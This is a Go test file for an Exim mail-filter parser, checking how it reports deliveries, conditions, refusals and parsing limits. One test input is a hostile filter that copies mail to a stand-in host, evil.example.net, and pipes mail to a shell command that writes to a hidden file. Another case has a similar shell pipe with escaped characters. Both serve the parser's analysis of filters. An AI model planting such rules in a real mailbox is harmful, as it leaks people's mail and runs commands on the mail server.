package eximfilter

import (
	"fmt"
	"strings"
	"testing"

	"waxseal/internal/testtime"
)

func show(f Filter) string {
	var out []string
	for _, c := range f.Commands {
		s := fmt.Sprintf("%d %s", c.Line, c.Verb)
		for _, word := range []string{c.How, c.Arg} {
			if word != "" {
				s += " " + word
			}
		}
		for mark, set := range map[string]bool{"diverts": c.Diverts, "drops": c.Drops, "never": c.Ends != 0} {
			if set {
				s += " [" + mark + "]"
			}
		}
		if when := c.When(); when != "" {
			s += " if " + when
		}
		out = append(out, s)
	}
	return strings.Join(out, "\n")
}

func TestParse(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"a copy", "unseen deliver x@y.example", "1 deliver x@y.example"},
		{"instead", "deliver x@y.example", "1 deliver x@y.example [diverts]"},
		{"a copy and an end", "unseen deliver x@y.example\nfinish", "1 deliver x@y.example\n2 finish"},
		{"a copy, and the rest into the hole", "unseen deliver x@y.example\nseen finish", "1 deliver x@y.example [diverts]\n2 finish"},
		{"black hole", "seen finish", "1 finish [drops]"},
		{"black hole by another command", `seen logwrite "x"`, "1 logwrite x [drops]"},
		{"delivered before under a condition only", "if personal then deliver a@b.example endif\nseen finish", "1 deliver a@b.example [diverts] if the mail is personal\n2 finish [drops]"},
		{"what ends inside", "if personal then unseen deliver a@b.example finish endif\nseen finish", "1 deliver a@b.example if the mail is personal\n1 finish if the mail is personal\n2 finish [drops]"},
		{"a copy to somebody and to a shell", "# Exim filter\nunseen deliver drop@evil.example.net\nunseen pipe \"/bin/sh -c \\\"id > /tmp/.uf\\\"\"\n",
			"2 deliver drop@evil.example.net\n3 pipe /bin/sh -c \"id > /tmp/.uf\""},
		{"never", "finish\ndeliver a@b.example", "1 finish\n2 deliver a@b.example [never]"},
		{"never after both branches", "if personal then finish else finish endif\nsave x", "1 finish if the mail is personal\n1 finish if the mail is not personal\n2 save x [never]"},
		{"elif", "if a is b then pipe p elif c contains \"d e\" then pipe q else pipe r endif",
			`1 pipe p [diverts] if "a" is "b"` + "\n" + `1 pipe q [diverts] if "a" is not "b" and "c" contains "d e"` + "\n" + `1 pipe r [diverts] if "a" is not "b" and "c" does not contain "d e"`},
		{"and before or", "if personal or delivered and not first_delivery then finish endif", "1 finish if the mail is personal or (a command before has delivered it and it is not the first attempt)"},
		{"not of parentheses", "if not (personal or a BEGINS b) then finish endif", `1 finish if not (the mail is personal or "a" begins with "b")`},
		{"any address", `if foranyaddress $h_to: ($thisaddress matches "^x") then finish endif`, `1 finish if for any address in "$h_to:" "$thisaddress" matches "^x"`},
		{"parenthesis at once", "if(personal)then finish endif", "1 finish if the mail is personal"},
		{"strings", `pipe "/bin/sh -c \"id \x3e /tmp/\170\""`, `1 pipe /bin/sh -c "id > /tmp/x" [diverts]`},
		{"a string over lines", "save \"a \\  \n   b\"", "1 save a b [diverts]"},
		{"comments", "# a\n save # b \"\n  x\n", "2 save x [diverts]"},
		{"headers", "headers add \"X-A: b\"\nheaders remove x", "1 headers add X-A: b\n2 headers remove x"},
		{"fail", `fail text "go away"`, "1 fail go away"},
		{"fail with a string", `fail "go"`, "1 fail go"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := show(Parse(tc.in, Rights{System: true})); got != tc.want {
				t.Errorf("got\n%s\nwant\n%s", got, tc.want)
			}
		})
	}
}

func TestOptions(t *testing.T) {
	f := Parse("mail to \"$reply_address\" bcc x@y.example\n expand file /etc/motd return message\nvacation subject \"\" file v", Rights{})
	if len(f.Commands) != 2 {
		t.Fatalf("%+v", f)
	}
	mail, vacation := f.Commands[0].Options, f.Commands[1].Options
	if *mail != (Options{To: "$reply_address", BCC: "x@y.example", File: "/etc/motd", ExpandFile: true, ReturnMessage: true}) {
		t.Errorf("%+v", mail)
	}
	if *vacation != (Options{File: "v", Log: ".vacation.log", Once: ".vacation", OnceRepeat: "7d"}) {
		t.Errorf("%+v", vacation)
	}
	if f.Commands[0].Line != 1 || f.Commands[1].Line != 3 || fmt.Sprint(f.Expansions) != "[{1 $reply_address}]" {
		t.Errorf("lines %d %d, expansions %v", f.Commands[0].Line, f.Commands[1].Line, f.Expansions)
	}
}

func TestRefused(t *testing.T) {
	user, system := Rights{}, Rights{System: true}
	for _, tc := range []struct {
		name, in string
		rights   Rights
		line     int
		words    string
	}{
		{"unknown command", "deliver a@b.example\nfinsh", user, 2, "finsh"},
		{"no endif", "if personal then\ndeliver a@b.example\n", user, 3, "endif"},
		{"endif alone", "\nendif", user, 2, "endif"},
		{"no then", "if personal deliver a@b.example endif", user, 1, "then"},
		{"no quote", "save \"x\nfinish", user, 1, "quote"},
		{"seen if", "seen if personal then finish endif", user, 1, "before an"},
		{"seen twice", "seen unseen finish", user, 1, "repeated"},
		{"no right", "fail", user, 1, "not allowed"},
		{"headers of a user", "headers add x", user, 1, "system"},
		{"headers", "headers turn x", system, 1, "expected"},
		{"comparison", "if a equals b then finish endif", system, 1, "equals"},
		{"long word", "save " + strings.Repeat("x", 1024), system, 1, "1023"},
		{"large file", strings.Repeat("finish\n", 200_000), system, 1, "1 MB"},
		{"return", "mail return x", system, 1, "message"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := Parse(tc.in, tc.rights)
			if !f.Refused || len(f.Problems) != 1 || f.Problems[0].Line != tc.line || !strings.Contains(f.Problems[0].Message, tc.words) {
				t.Errorf("refused %v, problems %v", f.Refused, f.Problems)
			}
		})
	}
}

// TestBounds: what is only too deep for us is said to be unread, not refused.
func TestBounds(t *testing.T) {
	for _, tc := range []struct{ name, in string }{
		{"if", strings.Repeat("if true is true then\n", 500) + "deliver a@b.example"},
		{"parentheses", "\n\nif " + strings.Repeat("(", 5000)},
		{"any address", "if " + strings.Repeat("foranyaddress x (", 5000)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := Parse(tc.in, Rights{})
			if f.Refused || f.Unread == 0 || len(f.Problems) != 1 || f.Problems[0].Line != f.Unread {
				t.Errorf("refused %v, unread from %d, problems %v", f.Refused, f.Unread, f.Problems)
			}
		})
	}
}

func TestIsFilter(t *testing.T) {
	for text, want := range map[string]bool{
		"# Exim filter\n": true, "#EXIMFILTER": true, "\n\n  #\texim   filter <<== do not edit": true, "# Exim": false, "#\n# Exim filter": false, "": false, "# sieve filter": false,
	} {
		if IsFilter(text) != want {
			t.Errorf("%q: %v", text, !want)
		}
	}
}

// TestHostile: four times as much of anything takes about four times as long.
func TestHostile(t *testing.T) {
	for _, piece := range []string{
		"x", "\"", "\n", "(", "\\", "if a is b then\n", "if a is b then finish elif ", "finish ", "mail ", "personal alias x ", "if personal alias x ", "not ", "if not ", "# ", "\"\\ ",
		"if a is b then finish endif\n", "deliver a errors_to ", "seen noerror ", "if a is b or c is d and ", "if (a is b) and ", "a is b and ",
	} {
		for _, first := range []string{"", "if a is b then finish\n", "if "} {
			t.Run(first+piece, func(t *testing.T) {
				testtime.Linear(t, 1<<20, func(size int) {
					f := Parse(first+strings.Repeat(piece, size/len(piece)), Rights{System: true})
					for _, c := range f.Commands {
						c.When()
					}
				})
			})
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("# Exim filter\nif $h_subject: contains \"x\" and not (personal or a is b) then\n unseen deliver a@b.example errors_to c@d.example\nelif foranyaddress $h_to: (a is b) then save x 0600 else seen finish endif\n")
	f.Add("mail to \"x\\x41\" expand file y return message\nvacation\nadd 1 to n1\nheaders add \"a: b\"\nfail text \"no\"")
	f.Fuzz(func(t *testing.T, text string) {
		last := strings.Count(text, "\n") + 1
		filter := Parse(text, Rights{System: true})
		for i, c := range filter.Commands {
			if c.Line < 1 || c.Line > last || c.Ends > last || len(c.When()) > maxWords+8 {
				t.Errorf("command %d: %+v in %d lines", i, c, last)
			}
		}
		for _, p := range filter.Problems {
			if p.Line < 1 || p.Line > last {
				t.Errorf("problem %+v in %d lines", p, last)
			}
		}
		for _, e := range filter.Expansions {
			if e.Line < 1 || e.Line > last {
				t.Errorf("expansion %+v in %d lines", e, last)
			}
		}
		if filter.Refused && len(filter.Problems) == 0 {
			t.Error("refused without a reason")
		}
		IsFilter(text)
	})
}
